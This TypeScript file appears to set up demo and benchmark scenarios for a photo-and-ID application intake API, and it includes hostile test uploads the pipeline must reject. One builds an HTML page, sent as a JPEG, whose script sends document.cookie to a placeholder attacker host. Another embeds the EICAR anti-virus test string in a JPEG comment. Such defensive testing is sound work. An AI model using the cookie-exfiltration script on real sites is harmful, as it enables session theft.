/**
 * Sample applications and how to drive one through the HTTP API to its end: the on-premises
 * inbox (released), a retake request, or a rejected upload. Shared by the demo and the benchmark.
 */
import type { StatusResponse } from '../../functions/core/api';
import type { ApplicationInput } from '../../functions/core/application';
import type { Inbox } from '../../functions/onprem/inbox';
import type { IntakeClient } from './intake-client';
import { adultApplicant, minorApplicant } from './sample-applicants';
import { sampleIdCard, samplePassportPhoto, sampleRuleBreakingPhoto } from './sample-images';

export type ScenarioKind =
  | 'compliant'
  | 'other-person-id'
  | 'malicious-upload'
  | 'infected-image'
  | 'photo-breaks-rule'
  | 'minor';

export interface Scenario {
  readonly kind: ScenarioKind;
  readonly label: string;
  readonly application: ApplicationInput;
  readonly photo: Uint8Array;
  readonly idCard: Uint8Array;
}

export type Ending = 'released' | 'retake' | 'rejected' | 'lost';

export interface ScenarioResult {
  readonly kind: ScenarioKind;
  readonly label: string;
  readonly applicationId: string;
  readonly ending: Ending;
  readonly status: string;
  readonly verdict: string | null;
  readonly reasons: readonly string[];
  /** From the last upload completing to the record in the inbox (released only). */
  readonly latencyMs: number | null;
}

/**
 * A file that must never pass: an HTML page with a script, sent as a JPEG. Built at run time so
 * no repo file carries it.
 */
export function maliciousUpload(): Uint8Array {
  const html = '<!doctype html><html><body><script>fetch("https://attacker.example/"+document.cookie)</script></body></html>\n';
  return Buffer.concat([Buffer.from(html), Buffer.alloc(2048, 0x20)]);
}

/** The EICAR anti-virus test string, stored base64-encoded so no repo file is itself a signature hit. */
const EICAR_BASE64 = 'WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=';

/**
 * A valid JPEG carrying the EICAR test string in a comment segment: rebuilding alone would strip
 * it silently, so only the signature scan can refuse it (and must).
 */
export function infectedImage(jpeg: Uint8Array): Uint8Array {
  const payload = Buffer.from(EICAR_BASE64, 'base64');
  const header = Buffer.alloc(4);
  header.writeUInt16BE(0xfffe, 0);
  header.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([Buffer.from(jpeg.subarray(0, 2)), header, payload, Buffer.from(jpeg.subarray(2))]);
}

/** The demo's set: one of each kind, people chosen from the generated samples. */
export async function demoScenarios(n0 = 0): Promise<Scenario[]> {
  const [photo0, photo1, id0, id1, bad] = await Promise.all([
    samplePassportPhoto(0),
    samplePassportPhoto(1),
    sampleIdCard(0),
    sampleIdCard(1),
    sampleRuleBreakingPhoto(0),
  ]);
  return [
    { kind: 'compliant', label: 'compliant applicant', application: adultApplicant(n0 + 1), photo: photo0, idCard: id0 },
    {
      kind: 'other-person-id',
      label: 'ID card shows another person',
      application: adultApplicant(n0 + 2),
      photo: photo0,
      idCard: id1,
    },
    {
      kind: 'malicious-upload',
      label: 'malicious upload (script sent as JPEG)',
      application: adultApplicant(n0 + 3),
      photo: maliciousUpload(),
      idCard: id1,
    },
    {
      kind: 'infected-image',
      label: 'infected image (EICAR in a JPEG comment)',
      application: adultApplicant(n0 + 6),
      photo: infectedImage(photo1),
      idCard: id1,
    },
    {
      kind: 'photo-breaks-rule',
      label: 'photo breaks a rule (head tilted)',
      application: adultApplicant(n0 + 4),
      photo: bad,
      idCard: id0,
    },
    {
      kind: 'minor',
      label: 'minor with a legal representative',
      application: minorApplicant(n0 + 5),
      photo: photo1,
      idCard: id1,
    },
  ];
}

const settled = (s: StatusResponse) => ['RELEASED', 'RETAKE_REQUESTED', 'REJECTED', 'EXPIRED'].includes(s.status);

export async function runScenario(client: IntakeClient, inbox: Inbox, s: Scenario, timeoutMs = 60_000): Promise<ScenarioResult> {
  const created = await client.createApplication(s.application);
  if (!created.ok) throw new Error(`the API refused a sample application: ${JSON.stringify(created.body)}`);
  const { applicationId, statusToken, uploads } = created.body;
  const [a, b] = await Promise.all([
    client.upload(uploads.photo, s.photo, 'image/jpeg'),
    client.upload(uploads.idCard, s.idCard, 'image/jpeg'),
  ]);
  if (a.status !== 204 || b.status !== 204) throw new Error(`upload refused: ${a.status} ${b.status}`);
  const uploadedAt = performance.now();

  const base = { kind: s.kind, label: s.label, applicationId };
  let status: StatusResponse;
  try {
    status = await client.waitFor(applicationId, statusToken, settled, timeoutMs, 25);
  } catch {
    return { ...base, ending: 'lost', status: 'TIMEOUT', verdict: null, reasons: [], latencyMs: null };
  }
  if (status.status === 'RETAKE_REQUESTED')
    return {
      ...base,
      ending: 'retake',
      status: status.status,
      verdict: 'RETAKE',
      reasons: status.verdict?.retakeChecks ?? [],
      latencyMs: null,
    };
  if (status.status !== 'RELEASED')
    return {
      ...base,
      ending: 'rejected',
      status: status.status,
      verdict: null,
      reasons: [status.statusReason ?? ''],
      latencyMs: null,
    };

  const until = Date.now() + timeoutMs;
  while (Date.now() < until) {
    const entry = await inbox.get(applicationId);
    if (entry) {
      return {
        ...base,
        ending: 'released',
        status: status.status,
        verdict: entry.record.verdict.outcome,
        reasons: entry.record.verdict.reasons,
        latencyMs: performance.now() - uploadedAt,
      };
    }
    await new Promise((r) => setTimeout(r, 10));
  }
  return { ...base, ending: 'lost', status: status.status, verdict: null, reasons: [], latencyMs: null };
}

export function percentile(values: readonly number[], p: number): number | null {
  if (values.length === 0) return null;
  const sorted = [...values].sort((x, y) => x - y);
  const i = Math.min(sorted.length - 1, Math.max(0, Math.ceil((p / 100) * sorted.length) - 1));
  return sorted[i] as number;
}
